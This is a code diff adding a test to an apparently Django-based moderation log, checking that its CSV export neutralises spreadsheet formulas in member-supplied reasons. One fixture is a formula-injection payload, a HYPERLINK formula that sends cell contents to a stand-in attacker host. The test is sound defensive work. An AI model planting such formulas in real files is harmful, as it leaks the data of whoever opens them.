@@ -109,6 +109,29 @@ def test_the_log_exports_csv(staff_client, entries):
     assert len(rows) == 2 and rows[1][3] == "hide" and rows[1][9] == "rude words"
 
 
+def test_the_csv_never_hands_a_spreadsheet_a_formula(staff_client, moderator, rule):
+    """Names and reasons come from members: a cell a spreadsheet would run is quoted."""
+    services.member_warn(
+        actor=moderator,
+        member=MemberFactory(username="mallory"),
+        rule=rule,
+        reason='=HYPERLINK("https://evil.example/?d="&A1,"click")',
+    )
+    for reason in ("+1 from me", "-rf", "@SUM(1+1)"):
+        services.member_warn(actor=moderator, member=MemberFactory(), rule=rule, reason=reason)
+    response = staff_client.get("/moderation/log/?format=csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    reasons = sorted(row[9] for row in rows[1:])
+    expected = [
+        '\'=HYPERLINK("https://evil.example/?d="&A1,"click")',
+        "'+1 from me",
+        "'-rf",
+        "'@SUM(1+1)",
+    ]
+    assert reasons == sorted(expected)
+    assert rows[1][0].isdigit()  # numbers stay numbers
+
+
 def test_the_log_page_query_count_is_constant(
     staff_client, moderator, rule, django_assert_num_queries
 ):
